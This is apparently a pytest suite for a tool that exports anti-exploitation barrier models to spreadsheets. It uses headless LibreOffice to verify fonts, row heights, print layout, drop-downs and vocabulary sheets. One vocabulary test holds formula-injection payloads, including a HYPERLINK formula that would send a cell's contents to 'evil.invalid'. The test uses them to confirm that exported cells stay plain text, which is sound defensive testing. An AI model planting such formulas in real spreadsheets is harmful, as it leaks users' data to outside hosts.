"""The exported workbook as LibreOffice Calc reads it (issue 10, item 23).

Headless LibreOffice converts the workbook to flat ODF (.fods), its own XML, so what Calc
made of each property can be read back: the font, bold only on required headers, the text
number format on id and text columns, the row heights, landscape fit-to-width pages with
row 1 repeated. A missing LibreOffice fails with what to install (``.ci/run`` installs it).
"""

from __future__ import annotations

import os
import shutil
import subprocess
import xml.etree.ElementTree as ET
from pathlib import Path
from typing import Any

import openpyxl
import pytest

from barriers import load_model
from barriers.export import ExportOptions, export
from barriers.export.xlsx import FONT
from barriers.workbook import ITEM_SHEETS
from tests.helpers import MODELS

pytestmark = pytest.mark.slow  # headless LibreOffice in a subprocess

NS = {
    "office": "urn:oasis:names:tc:opendocument:xmlns:office:1.0",
    "style": "urn:oasis:names:tc:opendocument:xmlns:style:1.0",
    "table": "urn:oasis:names:tc:opendocument:xmlns:table:1.0",
    "text": "urn:oasis:names:tc:opendocument:xmlns:text:1.0",
    "fo": "urn:oasis:names:tc:opendocument:xmlns:xsl-fo-compatible:1.0",
    "number": "urn:oasis:names:tc:opendocument:xmlns:datastyle:1.0",
}


def _q(name: str) -> str:
    prefix, local = name.split(":")
    return f"{{{NS[prefix]}}}{local}"


def _soffice() -> str:
    found = shutil.which("soffice") or shutil.which("libreoffice")
    if found is None:
        pytest.fail(
            "no LibreOffice (soffice) on PATH, and the workbook tests need it: "
            "apt-get install libreoffice-calc-nogui (.ci/run does)"
        )
    return found


@pytest.fixture(scope="module")
def calc(tmp_path_factory: pytest.TempPathFactory) -> tuple[ET.Element, Path]:
    folder = tmp_path_factory.mktemp("calc")
    book = folder / "general.xlsx"
    data = export(
        load_model(MODELS / "loverboys-general.yaml").model, "xlsx", ExportOptions(lang="en")
    )
    assert isinstance(data, bytes)
    book.write_bytes(data)
    profile = folder / "profile"  # a profile of its own: no clash with a running LibreOffice
    subprocess.run(
        [
            _soffice(),
            f"-env:UserInstallation=file://{profile}",
            "--headless",
            "--convert-to",
            "fods",
            "--outdir",
            str(folder),
            str(book),
        ],
        check=True,
        capture_output=True,
        timeout=300,
        env={**os.environ, "HOME": str(folder)},
    )
    return ET.parse(folder / "general.fods").getroot(), book


def _styles(root: ET.Element) -> dict[str, ET.Element]:
    return {
        s.get(_q("style:name"), ""): s
        for s in root.iter(_q("style:style"))
        if s.get(_q("style:family")) in ("table-cell", "table-row")
    }


def _table(root: ET.Element, name: str) -> ET.Element:
    return next(t for t in root.iter(_q("table:table")) if t.get(_q("table:name")) == name)


def _text_of(cell: ET.Element) -> str:
    return "\n".join("".join(p.itertext()) for p in cell.findall(_q("text:p")))


def _cell_prop(styles: dict[str, ET.Element], style: str | None, prop: str) -> str | None:
    """A text property of a cell style, following its parents."""
    while style:
        element = styles.get(style)
        if element is None:
            return None
        props = element.find(_q("style:text-properties"))
        if props is not None and props.get(prop) is not None:
            return props.get(prop)
        style = element.get(_q("style:parent-style-name"))
    return None


def test_libreoffice_reads_the_font_and_bold_only_on_required_headers(calc: Any) -> None:
    root, _ = calc
    styles = _styles(root)
    for sheet in ITEM_SHEETS:
        header = _table(root, sheet.name).find(_q("table:table-header-rows"))
        assert header is not None, f"{sheet.name}: row 1 is not repeated on printed pages"
        cells = header.find(_q("table:table-row")).findall(_q("table:table-cell"))  # type: ignore[union-attr]
        for column, cell in zip(sheet.columns, cells, strict=False):
            style = cell.get(_q("table:style-name"))
            assert _text_of(cell) == column.name
            bold = _cell_prop(styles, style, _q("fo:font-weight")) == "bold"
            assert bold == column.required, (sheet.name, column.name)
            assert _cell_prop(styles, style, _q("style:font-name")).startswith(FONT)  # type: ignore[union-attr]


def test_libreoffice_sees_text_format_on_id_and_text_columns(calc: Any) -> None:
    root, _ = calc
    styles = _styles(root)
    text_styles = {s.get(_q("style:name")) for s in root.iter(_q("number:text-style"))}
    sheet = next(s for s in ITEM_SHEETS if s.name == "sources")
    columns = _table(root, "sources").findall(_q("table:table-column"))
    for column, element in zip(sheet.columns, columns, strict=False):
        cell_style = styles.get(element.get(_q("table:default-cell-style-name"), ""))
        data_style = None if cell_style is None else cell_style.get(_q("style:data-style-name"))
        is_text = data_style in text_styles
        assert is_text == (column.kind in ("id", "text", "ids", "texts", "next")), column.name


def test_libreoffice_keeps_the_row_heights_that_fit_the_text(calc: Any) -> None:
    root, book = calc
    styles = _styles(root)
    ours = openpyxl.load_workbook(book)["phases"]
    rows = _table(root, "phases").findall(_q("table:table-row"))
    for number, row in enumerate(rows[:5], 2):
        props = styles[row.get(_q("table:style-name"), "")].find(_q("style:table-row-properties"))
        assert props is not None
        height = props.get(_q("style:row-height"), "")
        assert height.endswith("in")
        points = float(height[:-2]) * 72
        assert ours.row_dimensions[number].height is not None
        assert points == pytest.approx(ours.row_dimensions[number].height, abs=1)
        assert points > 3 * 13  # the phases' descriptions take several lines


def test_libreoffice_prints_landscape_one_page_wide(calc: Any) -> None:
    root, _ = calc
    layouts = list(root.iter(_q("style:page-layout-properties")))
    assert layouts
    for props in layouts:
        assert props.get(_q("style:print-orientation")) == "landscape"
        assert props.get(_q("style:scale-to-X")) == "1"


# -- the CSV export in LibreOffice (issue 10, item 24) ----------------------------------------


@pytest.mark.parametrize("delimiter, token", [(",", 44), (";", 59)])
def test_libreoffice_reads_the_csv_with_the_documented_filter_option(
    tmp_path: Path, delimiter: str, token: int
) -> None:
    """docs/_incoming/workbook.md: --infilter="CSV:44,34,76,1" (59 for ';'): UTF-8, BOM read."""
    from barriers.export import ExportOptions
    from tests.helpers import DATA

    model = load_model(DATA / "export-edge-cases.yaml").model
    text = export(model, "csv", ExportOptions(delimiter=delimiter))
    assert isinstance(text, str)
    source = tmp_path / "matrix.csv"
    source.write_text(text, encoding="utf-8", newline="")
    subprocess.run(
        [
            _soffice(),
            f"-env:UserInstallation=file://{tmp_path / 'profile'}",
            "--headless",
            f"--infilter=CSV:{token},34,76,1",
            "--convert-to",
            "xlsx",
            "--outdir",
            str(tmp_path / "out"),
            str(source),
        ],
        check=True,
        capture_output=True,
        timeout=300,
        env={**os.environ, "HOME": str(tmp_path)},
    )
    ws = openpyxl.load_workbook(tmp_path / "out" / "matrix.xlsx").active
    assert ws is not None
    rows = [[c.value for c in row] for row in ws.iter_rows()]
    assert rows[0][:4] == ["phase", "name", "interventions", "partners"]  # no 'ï»¿' before it
    assert 'Gemeente; afdeling "Veiligheid"' in rows[0]  # a ';' inside a name stays in it
    names = {row[0]: row[1] for row in rows[1:]}
    assert names["uitbuiting"] == "Uitbuiting – ‘dwang’ € ĳ ë é ü"
    assert names["werving"] == 'Werving, "snel"'


def test_libreoffice_offers_the_drop_downs_of_a_profile(tmp_path: Path) -> None:
    """Calc reads every drop-down of a Dutch profile workbook as a list validation, and the
    local-state column of the interventions uses the list of the states."""
    from tests.local_models import WORKBOOK_PROFILE as PROFILE

    source = tmp_path / "proef.yaml"
    source.write_text(PROFILE, encoding="utf-8")
    model = load_model(source, use_cache=False).model
    data = export(model, "xlsx", ExportOptions(base="loverboys-general"))
    assert isinstance(data, bytes)
    book = tmp_path / "proef.xlsx"
    book.write_bytes(data)
    subprocess.run(
        [
            _soffice(),
            f"-env:UserInstallation=file://{tmp_path / 'profile'}",
            "--headless",
            "--convert-to",
            "fods",
            "--outdir",
            str(tmp_path),
            str(book),
        ],
        check=True,
        capture_output=True,
        timeout=300,
        env={**os.environ, "HOME": str(tmp_path)},
    )
    root = ET.parse(tmp_path / "proef.fods").getroot()
    conditions = {
        v.get(_q("table:name")): v.get(_q("table:condition"), "")
        for v in root.iter(_q("table:content-validation"))
    }
    ours = openpyxl.load_workbook(book)
    wanted: dict[str, str] = {}
    for ws in ours.worksheets:
        for validation in ws.data_validations.dataValidation:
            sheet, cells = validation.formula1.split("!")
            first, last = cells.split(":")
            lo_range = f"[${sheet.strip(chr(39))}.{first}:.{last}]"
            wanted[f"{ws.title}!{ws[str(validation.sqref).split(':')[0]].column}"] = lo_range
    # the checklist answer, the partner sector and the vocabulary's kind and term too
    assert len(wanted) == 12
    assert sorted(wanted.values()) == sorted(
        c.removeprefix("of:cell-content-is-in-list(").removesuffix(")") for c in conditions.values()
    )
    interventions = _table(root, "interventies")
    headers = [_text_of(c) for c in interventions.iter(_q("table:table-cell"))][:20]
    state_column = headers.index("lokale status") + 1
    first_row = interventions.findall(_q("table:table-row"))[0]
    cells: list[ET.Element] = []
    for cell in first_row.findall(_q("table:table-cell")):
        cells.extend([cell] * int(cell.get(_q("table:number-columns-repeated"), "1")))
    validation = cells[state_column - 1].get(_q("table:content-validation-name"))
    assert conditions[validation] == (
        f"of:cell-content-is-in-list({wanted[f'interventies!{state_column}']})"
    )


# -- the checklist sheets (issue 16) ----------------------------------------------------------

DEJAVU_LINE = (1901 + 483) / 2048  # DejaVu Sans: ascent + descent, per point of font size
CELL_PADDING = 3.0  # points Calc keeps free inside a cell, left and right together (generous)


def _to_fods(book: Path, folder: Path) -> ET.Element:
    subprocess.run(
        [
            _soffice(),
            f"-env:UserInstallation=file://{folder / 'profile'}",
            "--headless",
            "--convert-to",
            "fods",
            "--outdir",
            str(folder),
            str(book),
        ],
        check=True,
        capture_output=True,
        timeout=300,
        env={**os.environ, "HOME": str(folder)},
    )
    return ET.parse(folder / f"{book.stem}.fods").getroot()


@pytest.fixture(scope="module")
def calc_checklist(tmp_path_factory: pytest.TempPathFactory) -> ET.Element:
    """A Dutch profile workbook whose checklist is answered, with long notes, as Calc reads it."""
    import yaml

    folder = tmp_path_factory.mktemp("calc-checklist")
    general = load_model(MODELS / "loverboys-general.yaml").model
    questions = [q.id for theme in general.checklist for q in theme.questions]
    data = yaml.safe_load((MODELS / "gemeente-voorbeeld.yaml").read_text(encoding="utf-8"))
    note = "De groep was het er niet over eens; " * 6 + "de wethouder komt erop terug."
    data["checklist_answers"] = {
        q: {
            "answer": ("yes", "partly", "no", "unknown")[n % 4],
            **({"note": note} if n % 2 else {}),
        }
        for n, q in enumerate(questions)
    }
    source = folder / "antwoorden.yaml"
    source.write_text(yaml.safe_dump(data, allow_unicode=True), encoding="utf-8")
    model = load_model(source, use_cache=False).model
    exported = export(model, "xlsx", ExportOptions(base="loverboys-general"))
    assert isinstance(exported, bytes)
    book = folder / "antwoorden.xlsx"
    book.write_bytes(exported)
    return _to_fods(book, folder)


def _length_in_points(length: str) -> float:
    for unit, points in (("in", 72.0), ("cm", 72 / 2.54), ("mm", 72 / 25.4), ("pt", 1.0)):
        if length.endswith(unit):
            return float(length[: -len(unit)]) * points
    raise AssertionError(f"a length in an unknown unit: {length}")


def _expanded(elements: list[ET.Element], repeat: str) -> list[ET.Element]:
    out: list[ET.Element] = []
    for element in elements:
        out.extend([element] * min(int(element.get(_q(repeat), "1")), 64))
    return out


def _lines_needed(text: str, width: float) -> int:
    """The lines ``text`` takes wrapped at spaces in a cell ``width`` points wide, measured
    with DejaVu Sans's own advance widths (Calc may also break at hyphens: fewer lines)."""
    from barriers.export.xlsx import FONT_SIZE
    from barriers.fonts import text_width

    space = text_width(" ", FONT_SIZE)
    total = 0
    for paragraph in text.split("\n"):
        lines, current = 1, 0.0
        for word in paragraph.split(" "):
            size = text_width(word, FONT_SIZE)
            if current and current + space + size > width:
                lines, current = lines + 1, 0.0
            elif current:
                current += space
            while size > width:  # a word wider than the cell is broken anywhere
                lines, size = lines + 1, size - width
            current += size
        total += lines
    return total


@pytest.mark.parametrize("name", ["checklist", "checklist-antwoorden"])
def test_libreoffice_repeats_the_checklist_headers_and_bolds_only_the_required(
    calc_checklist: ET.Element, name: str
) -> None:
    from barriers.workbook import ANSWERS_SHEET, CHECKLIST_SHEET

    sheet = CHECKLIST_SHEET if name == "checklist" else ANSWERS_SHEET
    styles = _styles(calc_checklist)
    header = _table(calc_checklist, name).find(_q("table:table-header-rows"))
    assert header is not None, f"{name}: row 1 is not repeated on printed pages"
    row = header.find(_q("table:table-row"))
    assert row is not None
    cells = _expanded(row.findall(_q("table:table-cell")), "table:number-columns-repeated")
    for column, cell in zip(sheet.columns, cells, strict=False):
        assert _text_of(cell) == column.label("nl")
        bold = _cell_prop(styles, cell.get(_q("table:style-name")), _q("fo:font-weight"))
        assert (bold == "bold") == column.required, (name, column.name)


def _cells_that_wrap(root: ET.Element, name: str) -> int:
    """Check that every cell's text on sheet ``name``, wrapped at Calc's own column widths
    and measured in DejaVu Sans, fits the row height Calc keeps (nothing cut on screen or
    in print); the number of cells that wrap."""
    styles = {
        s.get(_q("style:name"), ""): s
        for s in root.iter(_q("style:style"))
        if s.get(_q("style:family")) in ("table-column", "table-row")
    }

    def length(element: ET.Element, props: str, prop: str) -> float:
        found = styles[element.get(_q("table:style-name"), "")].find(_q(props))
        assert found is not None
        return _length_in_points(found.get(_q(prop), ""))

    table = _table(root, name)
    columns = _expanded(table.findall(_q("table:table-column")), "table:number-columns-repeated")
    widths = [length(c, "style:table-column-properties", "style:column-width") for c in columns]
    rows = list(table.iter(_q("table:table-row")))[1:]
    wrapped = 0
    for number, row in enumerate(rows, 2):
        cells = _expanded(row.findall(_q("table:table-cell")), "table:number-columns-repeated")
        height = length(row, "style:table-row-properties", "style:row-height")
        for index, cell in enumerate(cells):
            text = _text_of(cell)
            if not text:
                continue
            lines = _lines_needed(text, widths[index] - CELL_PADDING)
            wrapped += lines > 1
            assert height >= lines * DEJAVU_LINE * 10, (name, number, index + 1, text[:40])
    return wrapped


@pytest.mark.parametrize("name", ["checklist", "checklist-antwoorden"])
def test_libreoffice_gives_every_checklist_text_the_height_it_needs(
    calc_checklist: ET.Element, name: str
) -> None:
    assert _cells_that_wrap(calc_checklist, name) > 20  # long questions and notes measured


def test_libreoffice_gives_every_model_text_the_height_it_needs(calc: Any) -> None:
    root, _ = calc
    assert sum(_cells_that_wrap(root, sheet.name) for sheet in ITEM_SHEETS) > 100


def test_libreoffice_offers_the_answers_as_a_drop_down_and_prints_them_one_page_wide(
    calc_checklist: ET.Element,
) -> None:
    conditions = {
        v.get(_q("table:name")): v.get(_q("table:condition"), "")
        for v in calc_checklist.iter(_q("table:content-validation"))
    }
    table = _table(calc_checklist, "checklist-antwoorden")
    rows = list(table.iter(_q("table:table-row")))
    first = _expanded(rows[1].findall(_q("table:table-cell")), "table:number-columns-repeated")
    validation = first[2].get(_q("table:content-validation-name"))  # column C: antwoord
    # the sheet is protected, and only the question text (column B) is locked
    assert table.get(_q("table:protected")) == "true"
    cell_styles = {s.get(_q("style:name")): s for s in calc_checklist.iter(_q("style:style"))}

    def protect(cell: ET.Element) -> str:
        style = cell_styles.get(cell.get(_q("table:style-name")))
        props = None if style is None else style.find(_q("style:table-cell-properties"))
        found = None if props is None else props.get(_q("style:cell-protect"))
        return found or "protected"  # Calc's default: a cell of a protected sheet is locked

    assert [protect(c) for c in first[:4]] == ["none", "protected", "none", "none"]
    assert conditions[validation].startswith("of:cell-content-is-in-list([$keuzelijsten.")
    lists = _table(calc_checklist, "keuzelijsten")
    header = [
        _text_of(c) for c in lists.find(_q("table:table-header-rows")).iter(_q("table:table-cell"))
    ]  # type: ignore[union-attr]
    assert "checklist-antwoorden: antwoord" in header
    layouts = list(calc_checklist.iter(_q("style:page-layout-properties")))
    assert layouts and all(p.get(_q("style:print-orientation")) == "landscape" for p in layouts)
    assert all(p.get(_q("style:scale-to-X")) == "1" for p in layouts)


# -- the vocabulary sheet -----------------------------------------------------------------------


@pytest.fixture(scope="module")
def calc_vocabulary(tmp_path_factory: pytest.TempPathFactory) -> tuple[ET.Element, Path]:
    """A Dutch workbook whose vocabulary has formula-like terms, long labels and two
    languages, one term offered for translation, as Calc reads it."""
    import yaml

    from tests.helpers import EXAMPLE
    from tests.payloads import FORMULA_PAYLOADS

    folder = tmp_path_factory.mktemp("calc-vocabulary")
    data = yaml.safe_load(EXAMPLE.read_text(encoding="utf-8"))
    long_label = "a label long enough to wrap in its cell, " * 4 + "and more"
    types = [i["type"] for i in data["interventions"]]
    data["interventions"][0]["type"] = FORMULA_PAYLOADS[0]
    data["partners"][0]["sector"] = "#N/A"
    data["vocabulary"] = {
        "types": {
            FORMULA_PAYLOADS[0]: {"en": FORMULA_PAYLOADS[1], "pt-BR": "yes"},
            types[1]: {"en": long_label, "pt-BR": "linha um\nlinha dois"},
        },  # types[2]: offered, without labels
        "sectors": {"#N/A": {"en": "@SUM(1+1)"}, data["partners"][1]["sector"]: {}},
    }
    source = folder / "woorden.yaml"
    source.write_text(yaml.safe_dump(data, allow_unicode=True), encoding="utf-8")
    exported = export(load_model(source, use_cache=False).model, "xlsx", ExportOptions())
    assert isinstance(exported, bytes)
    book = folder / "woorden.xlsx"
    book.write_bytes(exported)
    return _to_fods(book, folder), book


def _table_texts(table: ET.Element) -> list[list[str]]:
    rows = []
    for row in table.iter(_q("table:table-row")):
        cells = _expanded(row.findall(_q("table:table-cell")), "table:number-columns-repeated")
        texts = [_text_of(c) for c in cells]
        while texts and not texts[-1]:
            texts.pop()
        if texts:
            rows.append(texts)
    return rows


def test_libreoffice_reads_the_vocabulary_as_text_exactly(calc_vocabulary: Any) -> None:
    root, book = calc_vocabulary
    from barriers.workbook import VOCABULARY_SHEET

    table = _table(root, "woordenlijst")
    ours = [
        ["" if v is None else str(v) for v in row]
        for row in openpyxl.load_workbook(book)["woordenlijst"].iter_rows(values_only=True)
    ]
    for row in ours:
        while row and not row[-1]:
            row.pop()
    assert _table_texts(table) == ours
    assert ours[0] == ["soort", "term", "en", "pt-BR"]
    assert ours[1][:2] == ["type", '=HYPERLINK("https://evil.invalid/?leak="&A1,"click")']
    # a formula payload is text in Calc too: no cell of the sheet has a formula
    assert not [c for c in table.iter(_q("table:table-cell")) if c.get(_q("table:formula"))]
    # row 1 repeated on printed pages, bold only on the required kind and term
    styles = _styles(root)
    header = table.find(_q("table:table-header-rows"))
    assert header is not None
    row = header.find(_q("table:table-row"))
    assert row is not None
    cells = _expanded(row.findall(_q("table:table-cell")), "table:number-columns-repeated")[:4]
    bold = [
        _cell_prop(styles, c.get(_q("table:style-name")), _q("fo:font-weight")) == "bold"
        for c in cells
    ]
    assert bold == [c.required for c in VOCABULARY_SHEET.columns] + [False, False]
    assert all(
        (_cell_prop(styles, c.get(_q("table:style-name")), _q("style:font-name")) or "").startswith(
            FONT
        )
        for c in cells
    )


def test_libreoffice_gives_every_vocabulary_text_the_height_it_needs(
    calc_vocabulary: Any,
) -> None:
    root, _ = calc_vocabulary
    assert _cells_that_wrap(root, "woordenlijst") >= 2  # the long label and the two lines


def test_libreoffice_offers_the_kinds_and_terms_and_leaves_the_sheet_open(
    calc_vocabulary: Any,
) -> None:
    root, _ = calc_vocabulary
    conditions = {
        v.get(_q("table:name")): v.get(_q("table:condition"), "")
        for v in root.iter(_q("table:content-validation"))
    }
    table = _table(root, "woordenlijst")
    rows = list(table.iter(_q("table:table-row")))
    first = _expanded(rows[1].findall(_q("table:table-cell")), "table:number-columns-repeated")
    kind, term = (first[i].get(_q("table:content-validation-name")) for i in (0, 1))
    assert conditions[kind].startswith("of:cell-content-is-in-list([$keuzelijsten.")
    assert conditions[term].startswith("of:cell-content-is-in-list([$keuzelijsten.")
    assert first[2].get(_q("table:content-validation-name")) is None  # labels: free text
    # not protected, as the other sheets a person types into: a translator adds columns
    assert table.get(_q("table:protected")) != "true"
    layouts = list(root.iter(_q("style:page-layout-properties")))
    assert layouts and all(p.get(_q("style:print-orientation")) == "landscape" for p in layouts)


def test_libreoffice_reads_the_general_models_vocabulary(calc: Any) -> None:
    root, _ = calc
    vocabulary = load_model(MODELS / "loverboys-general.yaml").model.vocabulary
    assert vocabulary is not None
    rows = _table_texts(_table(root, "vocabulary"))
    assert rows[0] == ["kind", "term", "en"]
    assert rows[1:] == [
        [word, term, labels["en"]]
        for word, terms in (("type", vocabulary.types), ("sector", vocabulary.sectors))
        for term, labels in terms.items()
    ]
